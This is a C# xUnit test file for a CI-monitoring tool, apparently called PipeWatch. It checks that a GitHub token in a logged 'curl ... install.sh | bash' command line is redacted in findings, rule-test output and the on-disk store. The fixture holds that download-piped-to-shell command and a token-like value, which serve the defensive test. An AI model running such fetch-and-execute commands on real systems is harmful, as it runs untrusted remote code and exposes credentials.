using System.Text;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Cli.Hostile;

/// <summary>
/// A token on a command line that a non-secret rule quotes (download piped to a shell) is redacted in every output, in
/// <c>rules test</c> and in the store, not only in the secret rule's own finding.
/// </summary>
public sealed class SigmaEvidenceRedactionTests : IDisposable
{
    // A classic GitHub token with a valid checksum (the built-in rule's own example), as a step would print it.
    private const string Token = "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";

    private readonly TempFolder _temp = new();
    private readonly CliRunner _cli;

    public SigmaEvidenceRedactionTests()
    {
        _cli = new CliRunner(_temp.Path);
        File.WriteAllText(_temp.File("telemetry.jsonl"),
            """{"@timestamp": "2026-11-20T10:17:00Z", "event": {"category": ["process"], "type": ["start"], "id": "hostile-1"}, "process": {"executable": "/usr/bin/bash", "command_line": "/bin/sh -c curl -sSfL -H 'Authorization: token """
            + Token
            + """' https://example.net/install.sh | bash", "pid": 4017, "parent": {"executable": "/home/runner/actions-runner/bin/Runner.Worker"}}, "host": {"os": {"type": "linux"}, "name": "runner-7"}, "user": {"name": "runner"}, "ci": {"repository": "acme/payments-api", "pipeline": "CI", "run_id": "7100000041", "job": "build", "platform": "github"}}"""
            + "\n");
    }

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task The_download_piped_to_shell_finding_quotes_the_command_line_with_the_token_redacted()
    {
        var ingest = await _cli.RunAsync("ingest", "telemetry.jsonl", "--format", "json");
        var listed = await _cli.RunAsync("findings", "--format", "json");
        var table = await _cli.RunAsync("findings");
        var incidents = await _cli.RunAsync("findings", "--incidents", "--format", "json");
        var rule = Path.Combine(Corpus.RepositoryRoot, "rules", "sigma", "linux", "proc_download_piped_to_shell.yml");
        var tested = await _cli.RunAsync("rules", "test", rule, "telemetry.jsonl");

        var tampering = Assert.Single(ingest.OutputLines, l => l.Contains("\"category\":\"code-change.pipeline-tampering\"", StringComparison.Ordinal));
        Assert.Contains("ghp_… (40 chars, sha256:", tampering, StringComparison.Ordinal);
        Assert.Contains("install.sh | bash", tampering, StringComparison.Ordinal);
        Assert.Equal(0, tested.ExitCode);
        Assert.Contains("ghp_… (40 chars", tested.Output, StringComparison.Ordinal);
        var everything = string.Concat(ingest.Output, ingest.Error, listed.Output, listed.Error, table.Output, incidents.Output, incidents.Error, tested.Output, tested.Error);
        Assert.DoesNotContain(Token[..10], everything, StringComparison.Ordinal);
        Assert.DoesNotContain(Token[^10..], everything, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_store_keeps_no_piece_of_the_token()
    {
        await _cli.RunAsync("ingest", "telemetry.jsonl");

        var bytes = Directory.GetFiles(_temp.File(".pipewatch")).SelectMany(File.ReadAllBytes).ToArray();
        Assert.True(bytes.Length > 0);
        Assert.Equal(-1, bytes.AsSpan().IndexOf(Encoding.UTF8.GetBytes(Token[..10])));
        Assert.Equal(-1, bytes.AsSpan().IndexOf(Encoding.UTF8.GetBytes(Token[^10..])));
    }
}
